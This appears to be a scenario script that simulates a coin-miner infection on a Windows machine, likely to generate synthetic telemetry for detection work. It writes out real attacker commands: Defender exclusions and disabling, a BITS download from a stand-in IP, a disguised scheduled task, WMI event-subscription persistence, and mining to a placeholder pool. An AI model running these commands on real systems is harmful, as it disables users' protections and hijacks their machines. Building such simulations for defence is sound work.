"""A coin miner: excludes itself from Defender, fetches the miner with BITS, returns by a hidden task from XML and by a WMI
event subscription, and mines on port 3333."""
from scenery import Desktop

SETTING = {"start": "2020-09-09T18:20:00", "user": "GAMER\\tom", "home": "C:\\Users\\tom", "computer": "GAMER",
           "os_version": (10, 0, 19041)}
CACHE = r"HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Schedule\TaskCache"


def story(c):
    desktop = Desktop(c)
    system32 = c.system_root + "\\System32\\"
    power = system32 + r"WindowsPowerShell\v1.0\powershell.exe"
    folder, miner = r"C:\ProgramData\WinCache", r"C:\ProgramData\WinCache\taskhostw.exe"
    desktop.murmur(8)
    setup = c.spawn(desktop.explorer, c.home + r"\Downloads\FreeCrack Setup.exe")
    c.exit(c.spawn(setup, power, "powershell -Command Add-MpPreference -ExclusionPath '%s' -ExclusionProcess "
                   "'taskhostw.exe'" % folder))
    c.exit(c.spawn(setup, power, "powershell.exe -NoProfile Set-MpPreference -SubmitSamplesConsent 2 -MAPSReporting 0"))
    c.folder(setup, folder)
    fetch = c.spawn(setup, power, "powershell -w 1 Start-BitsTransfer -Source http://203.0.113.99/x64.bin "
                    "-Destination %s" % miner)
    bits = c.system(system32 + "svchost.exe", system32 + "svchost.exe -k netsvcs -p -s BITS", parent=desktop.services)
    c.exchange(bits, ("203.0.113.99", 80), 50011, [210], [65536] * 20)
    c.drop(bits, folder + r"\BIT4E1.tmp", 1310720)
    c.rename(bits, folder + r"\BIT4E1.tmp", miner)
    c.exit(fetch)
    c.drop(setup, c.home + r"\AppData\Local\Temp\w.xml", 1680)
    tool = c.spawn(setup, system32 + "schtasks.exe", r'schtasks /create /tn "\Microsoft\Windows\Wininet\CacheTask2" /xml '
                   r'"%s\AppData\Local\Temp\w.xml" /f' % c.home)
    c.drop(desktop.scheduler, system32 + r"Tasks\Microsoft\Windows\Wininet\CacheTask2", 3200)
    c.key(desktop.scheduler, CACHE + r"\Tree\Microsoft\Windows\Wininet\CacheTask2", new=True)
    c.exit(tool)
    c.exit(c.spawn(setup, system32 + r"wbem\WMIC.exe", r'wmic /NAMESPACE:"\\root\subscription" PATH CommandLineEventConsumer'
                   r' CREATE Name="SysC", CommandLineTemplate="%s"' % miner))
    c.exit(c.spawn(setup, system32 + "attrib.exe", "attrib +h +s %s" % folder))
    c.exit(c.spawn(setup, system32 + "sc.exe", "sc config WinDefend start= disabled"))
    work = c.spawn(desktop.scheduler, miner, "%s -o stratum+tcp://pool.miner.example:3333 -u 4AbQ -p x --donate-level=1"
                   % miner)
    c.exchange(work, ("203.0.113.200", 3333), 50020, [180, 90], [240, 310, 88])
    c.exit(setup)
    desktop.murmur(6)
